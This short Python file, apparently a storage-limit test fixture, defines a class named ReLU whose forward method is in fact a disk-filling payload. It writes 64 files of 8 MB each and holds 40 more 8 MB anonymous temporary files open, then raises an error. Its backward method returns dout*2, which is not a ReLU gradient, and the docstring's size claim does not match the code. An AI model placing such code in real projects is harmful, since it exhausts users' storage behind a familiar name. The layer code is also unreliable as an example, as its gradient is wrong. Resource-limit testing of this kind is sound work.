"""Writes half a gigabyte in small files, and as much again in files without a name."""

import os
import tempfile


class ReLU:
    def forward(self, x):
        held = []
        for number in range(64):
            with open(f"filling{number}", "wb") as file:
                file.write(bytes(8 << 20))
        for _ in range(40):
            held.append(tempfile.TemporaryFile())
            held[-1].write(bytes(8 << 20))
        raise RuntimeError("held")

    def backward(self, dout):
        return dout * 2
